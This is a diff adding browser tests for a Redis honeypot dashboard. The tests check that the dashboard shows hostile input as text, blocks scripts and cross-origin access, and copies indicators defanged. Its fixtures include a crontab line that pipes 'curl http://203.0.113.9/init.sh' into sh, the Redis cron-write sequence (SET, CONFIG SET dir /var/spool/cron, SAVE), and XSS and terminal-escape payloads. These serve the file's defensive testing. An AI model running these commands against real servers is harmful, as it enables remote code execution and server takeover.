@@ -1,0 +1,383 @@
+import { existsSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
+import { bytesFromText } from '../src/model/bytes.ts';
+import { playVisits } from './dashboard/sample-visits.ts';
+import type { Stage } from './dashboard/stage.ts';
+import { openStage, PAGE_FOLDER } from './dashboard/stage.ts';
+import type { RealBrowser } from './peers/browser.ts';
+import { startBrowser } from './peers/browser.ts';
+
+const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
+const NASTY = [
+  '<img src=x onerror=alert(1)>',
+  '"><script>alert(2)</script>',
+  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred',
+  bytesFromText('\u202etxt.exe\u2066abc\u2069\u200b'),
+  '\u0000\u0000nul',
+  'javascript:alert(3)//',
+  '</span><svg/onload=alert(4)>{{7*7}}${alert(5)}',
+];
+const DESK: BrowserContextOptions = { viewport: { width: 1280, height: 800 }, colorScheme: 'dark' };
+const PHONE: BrowserContextOptions = { viewport: { width: 390, height: 844 }, colorScheme: 'dark' };
+const VIEWS = ['now', 'findings', 'sessions', 'sources', 'indicators', 'campaigns', 'events'];
+
+let browser: RealBrowser;
+
+beforeAll(async () => {
+  expect(existsSync(`${PAGE_FOLDER}/index.html`), 'the page is built: npm run build:ui').toBe(true);
+  browser = await startBrowser();
+});
+afterAll(() => browser.close());
+
+interface Watched {
+  readonly page: Page;
+  readonly context: BrowserContext;
+  /** Dialogs, errors, warnings, refused scripts and requests to elsewhere. */
+  readonly trouble: string[];
+}
+
+async function openedStage(): Promise<Stage> {
+  const stage = await openStage(Date.now() - 60_000);
+  onTestFinished(() => stage.close());
+  return stage;
+}
+
+async function openPage(stage: Stage, options: BrowserContextOptions = DESK): Promise<Watched> {
+  const context = await browser.context(options);
+  onTestFinished(() => context.close());
+  const page = await context.newPage();
+  const trouble: string[] = [];
+  page.on('dialog', (dialog) => {
+    trouble.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('pageerror', (error) => trouble.push(`error: ${error.message}`));
+  page.on('console', (message) => {
+    if (message.type() !== 'log') trouble.push(`console: ${message.text()}`);
+  });
+  page.on('request', (request) => {
+    if (!request.url().startsWith(stage.url)) trouble.push(`request: ${request.url()}`);
+  });
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) =>
+      console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`),
+    );
+  });
+  await page.goto(stage.url);
+  await page.getByText('live', { exact: true }).waitFor();
+  return { page, context, trouble };
+}
+
+/** One attacker's visit that ends in a finding. */
+async function attack(stage: Stage, address = '203.0.113.5', key = 'backup1'): Promise<string> {
+  const visitor = stage.visit(address);
+  visitor.does(['INFO']);
+  visitor.does(['SET', key, CRON]);
+  visitor.does(['CONFIG', 'SET', 'dir', '/var/spool/cron']);
+  visitor.does(['SAVE']);
+  visitor.leaves();
+  await stage.journal.flush();
+  return visitor.session;
+}
+
+describe('dashboard page', () => {
+  test('tells the line to try while nobody has come', async () => {
+    const { page, trouble } = await openPage(await openedStage());
+
+    await page.getByText('redis-cli -p 6379').waitFor();
+
+    expect(trouble).toEqual([]);
+  });
+
+  test('shows what happens without being loaded again', async () => {
+    const stage = await openedStage();
+    const { page, trouble } = await openPage(stage);
+    let loads = 0;
+    page.on('load', () => (loads += 1));
+
+    await attack(stage);
+    await page.getByRole('link', { name: 'A value that is a cron job' }).first().waitFor();
+    await page.getByLabel('Live events').getByText('backup1').first().waitFor();
+    await page.locator('.tile', { hasText: 'Attacks' }).getByText('1', { exact: true }).waitFor();
+
+    expect(loads).toBe(0);
+    expect(trouble).toEqual([]);
+  });
+
+  test('shows hostile keys, values, names and replies as text, on every view', async () => {
+    const stage = await openedStage();
+    const { page, trouble } = await openPage(stage);
+    const visitor = stage.visit('203.0.113.5');
+    for (const nasty of NASTY) {
+      visitor.does(['CLIENT', 'SETNAME', nasty]);
+      visitor.does(['SET', nasty, `${nasty}* * *`]);
+      visitor.does(['AUTH', nasty], 1, `ERR ${nasty}`);
+      visitor.does([nasty, nasty]);
+      visitor.does(['EVAL', nasty, '0']);
+      visitor.does(['REPLICAOF', nasty, '1']);
+      visitor.emit({ type: 'wire.fault', fault: nasty, looksLike: 'unknown', sample: nasty });
+    }
+    visitor.does(['CONFIG', 'SET', 'dir', `/${NASTY[0] ?? ''}`]);
+    await stage.journal.flush();
+    const elements = 'img, script:not([src*="/assets/"]), iframe, object, embed, svg[onload]';
+
+    const shown: Record<string, string> = {};
+    for (const view of [
+      ...VIEWS,
+      `sessions/${visitor.session}`,
+      `sources/${encodeURIComponent(NASTY[0] ?? '')}`,
+    ]) {
+      await page.goto(`${stage.url}#/${view}`);
+      await page.waitForLoadState('networkidle').catch(() => undefined);
+      await page.locator('main .raw').first().waitFor();
+      expect(await page.locator(elements).count()).toBe(0);
+      shown[view] = await page.locator('main').innerText();
+    }
+    const session = shown[`sessions/${visitor.session}`] ?? '';
+
+    expect(shown['now']).toContain('<img src=x onerror=alert(1)>');
+    expect(shown['indicators']).toContain('<img src=x onerror=alert(1)>');
+    expect(session).toContain('"><script>alert(2)</script>');
+    expect(session).toContain('\\x1b]0;owned\\x07\\x1b[2J');
+    expect(session).toContain('\\u{202e}txt.exe');
+    expect(session).toContain('\\x00\\x00nul');
+    for (const text of Object.values(shown))
+      expect(text).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069]/);
+    expect(trouble).toEqual([]);
+  });
+
+  test('lets no script in, even when one gets into the document', async () => {
+    const { page } = await openPage(await openedStage());
+
+    const ran = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      try {
+        script.textContent = 'globalThis.ran = true';
+      } catch {
+        return 'refused by trusted types';
+      }
+      document.body.append(script);
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      return 'ran' in globalThis ? 'ran' : 'refused by the policy';
+    });
+
+    expect(ran).toMatch(/^refused/);
+  });
+
+  test('cannot be read, streamed or framed by a page of another origin', async () => {
+    const stage = await openedStage();
+    await attack(stage);
+    const server = createServer((_, answer) =>
+      answer.setHeader('content-type', 'text/html').end('<h1>other</h1>'),
+    );
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+    onTestFinished(() => void server.close());
+    const context = await browser.context();
+    onTestFinished(() => context.close());
+    const page = await context.newPage();
+    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
+
+    const results = await page.evaluate(async (url) => {
+      const read = await fetch(`${url}api/sessions`).then(
+        (answer) => answer.text(),
+        () => 'refused',
+      );
+      const blind = await fetch(`${url}api/sessions`, { mode: 'no-cors' }).then(
+        (answer) => answer.text(),
+        () => 'refused',
+      );
+      const stream = await new Promise((resolve) => {
+        const source = new EventSource(`${url}api/stream`);
+        source.onerror = () => resolve('refused');
+        source.addEventListener('hello', () => resolve('streamed'));
+      });
+      const frame = document.createElement('iframe');
+      frame.src = url;
+      document.body.append(frame);
+      await new Promise((resolve) => (frame.onload = resolve));
+      return { read, blind, stream };
+    }, stage.url);
+    const framed = await page
+      .frames()[1]
+      ?.locator('.brand')
+      .count()
+      .catch(() => 0);
+
+    expect(results).toEqual({
+      read: 'refused',
+      blind: expect.stringMatching(/^$|refused/),
+      stream: 'refused',
+    });
+    expect(framed).toBe(0);
+  });
+
+  test('leads from a finding to the command that completed it, with why and advice beside it', async () => {
+    const stage = await openedStage();
+    const session = await attack(stage);
+    const { page, trouble } = await openPage(stage);
+
+    await page.getByRole('link', { name: 'A value that is a cron job' }).first().click();
+    const step = page.locator('.step', { hasText: 'SET' }).filter({ hasText: 'backup1' });
+    await step.getByText('The value has the form of a crontab line').waitFor();
+
+    expect(page.url()).toContain(`#/sessions/${session}`);
+    expect(await step.getAttribute('aria-current')).toBe('true');
+    expect(await step.innerText()).toContain('Look for the same line in the crontabs');
+    expect(await step.getByRole('link', { name: 'T1053.003' }).getAttribute('rel')).toContain('noreferrer');
+    expect(await step.locator('.offset').innerText()).toBe('+0.080 s');
+    expect(trouble).toEqual([]);
+  });
+
+  test('goes on showing a session while it goes on', async () => {
+    const stage = await openedStage();
+    const visitor = stage.visit('203.0.113.5');
+    visitor.does(['PING']);
+    await stage.journal.flush();
+    const { page } = await openPage(stage);
+    await page.goto(`${stage.url}#/sessions/${visitor.session}`);
+    await page.getByText('PING').waitFor();
+
+    visitor.does(['SET', 'later', 'value']);
+    visitor.leaves();
+
+    await page.locator('.step').getByText('later').first().waitFor();
+    await page.locator('.step').getByText('left').waitFor();
+    expect(await page.locator('.step').count()).toBe(4);
+  });
+
+  test('narrows a list as one types, keeps it in the address, and leads back', async () => {
+    const stage = await openedStage();
+    await attack(stage, '203.0.113.5');
+    await attack(stage, '198.51.100.7');
+    const { page } = await openPage(stage);
+    await page.goto(`${stage.url}#/sources`);
+    await page.getByText('2 found').waitFor();
+
+    await page.keyboard.press('/');
+    await page.keyboard.type('198.51');
+    await page.getByText('1 found').waitFor();
+
+    expect(page.url()).toContain('contains=198.51');
+    await page.reload();
+    await page.getByText('1 found').waitFor();
+  });
+
+  test('works from the keyboard alone', async () => {
+    const stage = await openedStage();
+    const sessions = [
+      await attack(stage, '203.0.113.5'),
+      await attack(stage, '203.0.113.6'),
+      await attack(stage, '203.0.113.7'),
+    ];
+    const { page, trouble } = await openPage(stage);
+    const keys = async (...pressed: string[]): Promise<void> => {
+      for (const key of pressed) await page.keyboard.press(key);
+    };
+    const selected = (): Promise<string | null> =>
+      page.evaluate(() => document.activeElement?.getAttribute('data-row') ?? null);
+
+    await keys('g', 's');
+    await page.locator('tr[data-row]').nth(2).waitFor();
+    await keys('j', 'j', 'ArrowDown', 'k');
+    expect(await selected()).toBe(sessions[1]);
+    await keys('Enter');
+    await page.getByRole('heading', { name: /Session of 203\.0\.113\.6/ }).waitFor();
+    await keys('Escape');
+    await page.getByRole('heading', { name: 'Sessions' }).waitFor();
+    await expect.poll(selected).toBe(sessions[1]);
+    await keys('?');
+    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
+    await keys('Escape');
+    expect(await page.getByRole('dialog').count()).toBe(0);
+    for (const [key, view] of [
+      ['i', 'Indicators'],
+      ['f', 'Findings'],
+      ['o', 'Sources'],
+      ['c', 'Campaigns'],
+      ['e', 'Events'],
+      ['n', 'Now'],
+    ] as const) {
+      await keys('g', key);
+      await page.getByRole('heading', { level: 1, name: view }).waitFor();
+    }
+
+    expect(trouble).toEqual([]);
+  });
+
+  test('copies an indicator defanged, or as it is', async () => {
+    const stage = await openedStage();
+    await attack(stage);
+    const { page, context } = await openPage(stage);
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stage.url });
+    await page.goto(`${stage.url}#/indicators?kind=url`);
+    const clipboard = (): Promise<string> => page.evaluate(() => navigator.clipboard.readText());
+
+    await page.getByRole('button', { name: /^Copy/ }).first().click();
+    await expect.poll(clipboard).toBe('hxxp://203[.]0[.]113[.]9/init[.]sh');
+    await page.getByLabel('defanged').uncheck();
+    await page.locator('[data-row]').first().focus();
+    await page.keyboard.press('y');
+
+    await expect.poll(clipboard).toBe('http://203.0.113.9/init.sh');
+  });
+
+  test('says that the connection is lost, and catches up when it is back', async () => {
+    const stage = await openStage(Date.now() - 60_000);
+    const { page } = await openPage(stage);
+    const { port } = stage.dashboard;
+
+    await stage.close();
+    await page.getByText('Connection to Sundew lost.').waitFor();
+    const again = await openStage(Date.now() - 60_000, undefined, port);
+    onTestFinished(() => again.close());
+    await attack(again);
+    await page.getByRole('link', { name: 'A value that is a cron job' }).first().waitFor();
+
+    expect(await page.getByText('Connection to Sundew lost.').count()).toBe(0);
+    await page.getByText('live', { exact: true }).waitFor();
+  });
+
+  test('follows the colours of the system, and one may choose others', async () => {
+    const stage = await openedStage();
+    const { page } = await openPage(stage, { ...DESK, colorScheme: 'light' });
+    const ground = (): Promise<string> =>
+      page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
+    const light = await ground();
+
+    await page.emulateMedia({ colorScheme: 'dark' });
+    const dark = await ground();
+    await page.keyboard.press('t');
+    await page.keyboard.press('t');
+    const chosen = await ground();
+    await page.reload();
+
+    expect(dark).not.toBe(light);
+    expect(chosen).toBe(light);
+    expect(await ground()).toBe(light);
+  });
+
+  test.for([
+    { name: '1280 pixels, dark', options: DESK },
+    { name: '1280 pixels, light', options: { ...DESK, colorScheme: 'light' as const } },
+    { name: '390 pixels', options: PHONE },
+  ])('fits $name on every view without scrolling sideways', async ({ options }) => {
+    const stage = await openedStage();
+    await playVisits(stage, stage.clock.now() + 40_000, 1_000);
+    const session = await attack(stage);
+    const { page, trouble } = await openPage(stage, options);
+
+    for (const view of [...VIEWS, `sessions/${session}`, 'sources/203.0.113.5', 'campaigns/test-worm']) {
+      await page.goto(`${stage.url}#/${view}`);
+      await page.locator('main [data-row]').first().waitFor();
+      const excess = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      const picture = await page.screenshot();
+
+      expect(excess, view).toBeLessThanOrEqual(0);
+      expect(picture.length, view).toBeGreaterThan(10_000);
+    }
+    expect(trouble).toEqual([]);
+  });
+});
